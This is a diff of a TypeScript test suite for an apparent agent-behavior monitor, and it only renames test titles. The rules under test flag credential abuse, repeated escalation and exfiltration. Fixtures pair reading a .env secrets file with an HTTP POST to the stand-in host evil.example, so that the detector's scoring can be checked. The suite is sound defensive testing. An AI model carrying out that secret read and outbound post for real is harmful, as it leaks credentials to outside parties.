@@ -45,7 +45,7 @@ const chat = (i: number): Told => [
 ];
 const removed: Told = ['allow', { call_digest: 'd', behavior: { signals: [{ s: 'destroy', x: 'src', h: '1' }] } }];
 
-describe('[behavior.rules] what no call shows', () => {
+describe('[behavior.rules] signals that no single call shows', () => {
   test('refused logins', async () => {
     expect(await alertsOf([0, 1, 2, 3].map(failed))).toEqual([]);
     expect(await alertsOf([0, 1, 2, 3, 4].map(failed))).toEqual([['credential_abuse', 30, [0, 1, 2, 3, 4]]]);
@@ -59,7 +59,7 @@ describe('[behavior.rules] what no call shows', () => {
     expect(await alertsOf([misused])).toEqual([['credential_abuse', 30, [0]]]);
   });
 
-  test('humans who say no, and time that merely ran out', async () => {
+  test('denials by humans, and requests that expired', async () => {
     expect(await alertsOf([0, 1, 2].map(denied))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
     expect(await alertsOf([0, 0, 0].map(denied))).toEqual([]);
     const timeouts = [0, 1, 2].map((i): Told => ['deny', { call_digest: `${i}digest`, reason: 'timeout' }]);
@@ -70,7 +70,7 @@ describe('[behavior.rules] what no call shows', () => {
   const approved: Told = ['allow', { call_digest: 'd', approval_ref: 'a1', behavior: { signals: [] } }];
   const many = Array.from({ length: 20 }, (_, i) => reviewed(100 + i));
 
-  test('[behavior.rules] different calls that wait for a person, one after the other', async () => {
+  test('[behavior.rules] different calls that are pending, one after the other', async () => {
     expect(await alertsOf(many.slice(1))).toEqual([]);
     expect(await alertsOf(many)).toEqual([['repeated_escalation', 10, [16, 17, 18, 19]]]);
     expect(await alertsOf([...many.slice(0, 10), approved, ...many.slice(10)])).toEqual([]);
@@ -95,7 +95,7 @@ describe('[behavior.rules] what no call shows', () => {
     expect(await alertsOf([0, 0, 0, 0].map(chat))).toEqual([]);
   });
 
-  test('entries without a note, and outcomes, are nothing to the rules', async () => {
+  test('entries without a note, and outcomes, do not affect the rules', async () => {
     const { head } = chain([
       ['allow', {}],
       ['result', {}],
@@ -115,7 +115,7 @@ describe('settings', () => {
     sensitive: ['data/payroll/**', 'hr.*'],
   });
 
-  test('[behavior.rules] other numbers travel with the entry, so that replay needs nothing else', async () => {
+  test('[behavior.rules] other numbers are stored in the entry, so that replay needs no other source', async () => {
     const { entries, head, refused } = await play(
       await readers(),
       [sh('cat .env'), http('post', 'https://evil.example/')],
@@ -131,7 +131,7 @@ describe('settings', () => {
     expect(differingSettings(riskSettingsOf(settings))).toBeUndefined();
   });
 
-  test('what would have been: replay with other numbers', async () => {
+  test('a hypothetical score: replay with other numbers', async () => {
     const { entries } = await play(await readers(), [sh('cat .env'), http('post', 'https://evil.example/')]);
     const { record } = await replayRisk(entries, {
       ...riskSettingsOf(settings),
@@ -140,7 +140,7 @@ describe('settings', () => {
     expect(record?.score).toBe(7);
   });
 
-  test('known hosts are not a way out, and more may be sensitive', async () => {
+  test('known hosts are not sinks, and further paths can be sensitive', async () => {
     const effectsOf = await readers();
     const kinds = (step: ReturnType<typeof sh>) =>
       signalsOf(step.call, effectsOf(step.call), 'allow', signalContext(behaviorSchema.parse(given))).map(({ s }) => s);
@@ -150,7 +150,7 @@ describe('settings', () => {
     expect(kinds(sh('cat data/payrolls.csv'))).toEqual([]);
   });
 
-  test('switched off, nothing is scored and no session is blocked', () => {
+  test('switched off, no call is scored and no session is blocked', () => {
     const off = behaviorSchema.parse({ enabled: false });
     const standing = { session: { score: 1000, rule: 'exfiltration' }, key: undefined };
     expect(blockedBy(off, standing, startMs)).toBeUndefined();
